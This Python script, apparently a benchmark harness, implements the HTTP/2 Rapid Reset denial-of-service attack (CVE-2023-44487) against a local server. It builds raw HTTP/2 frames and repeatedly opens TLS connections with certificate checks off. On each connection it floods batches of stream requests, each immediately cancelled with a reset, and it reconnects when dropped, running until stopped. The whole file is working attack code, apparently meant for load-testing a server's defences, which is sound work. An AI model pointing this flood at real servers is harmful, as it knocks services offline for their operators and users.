"""One client over HTTP/2 that takes back every request that it makes, as fast as it can (CVE-2023-44487), until SIGTERM.

    python3 bench/attack.py PORT at-once|begun

at-once: request and reset in one breath. begun: the reset comes when the server has seen the request, and may have sent it
on. Where it is thrown out, it comes again at once. Says at the end how often it came and how much it took back.
"""

import json
import signal
import socket
import ssl
import sys

HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
ADDRESS = "127.0.0.2"  # the others have another one
STREAMS = 100  # at once: what servers usually allow
BATCHES = 200  # on one connection


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A field that no table remembers (RFC 7541 section 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


REQUEST = b"".join(
    literal(name, value)
    for name, value in [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", b"/kib")]
)
HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
ASK = frame(PING, 0, 0, b"are you?")
ANSWER = frame(PING, 1, 0, b"are you?")


def request(stream: int) -> bytes:
    return frame(HEADERS, 5, stream, REQUEST)


def reset(stream: int) -> bytes:
    return frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))


def batches():
    """The streams of each batch."""
    return (range(1 + 2 * STREAMS * batch, 1 + 2 * STREAMS * (batch + 1), 2) for batch in range(BATCHES))


AT_ONCE = [b"".join(request(stream) + reset(stream) for stream in batch) for batch in batches()]
REQUESTS = [b"".join(map(request, batch)) for batch in batches()]
RESETS = [b"".join(map(reset, batch)) for batch in batches()]


class Attack:
    def __init__(self, port: int, how: str):
        self.port, self.how = port, getattr(self, how.replace("-", "_"))
        self.connections = self.failed = self.resets = 0
        self.context = ssl.create_default_context()
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
        self.context.set_alpn_protocols(["h2"])

    def run(self) -> None:
        while True:
            try:
                self.connect()
            except OSError:  # thrown out
                self.failed += 1

    def connect(self) -> None:
        with socket.create_connection(("127.0.0.1", self.port), 10, (ADDRESS, 0)) as plain:
            plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            with self.context.wrap_socket(plain) as connection:
                self.connections += 1
                connection.sendall(HELLO)
                self.how(connection)

    def at_once(self, connection) -> None:
        for batch in AT_ONCE:
            connection.sendall(batch)
            self.resets += STREAMS
        self.await_answer(connection)

    def begun(self, connection) -> None:
        for requests, resets in zip(REQUESTS, RESETS):
            connection.sendall(requests)
            self.await_answer(connection)
            connection.sendall(resets)
            self.resets += STREAMS

    @staticmethod
    def await_answer(connection) -> None:
        """The server has read all that was sent."""
        connection.sendall(ASK)
        heard = b""
        while ANSWER not in heard:
            more = connection.recv(1 << 16)
            if not more:
                raise ConnectionResetError
            heard = heard[-len(ANSWER) :] + more


def main() -> None:
    attack = Attack(int(sys.argv[1]), sys.argv[2])
    signal.signal(signal.SIGTERM, lambda *_: sys.exit())
    try:
        attack.run()
    finally:
        print(json.dumps({"connections": attack.connections, "failed": attack.failed, "resets": attack.resets}))


if __name__ == "__main__":
    main()
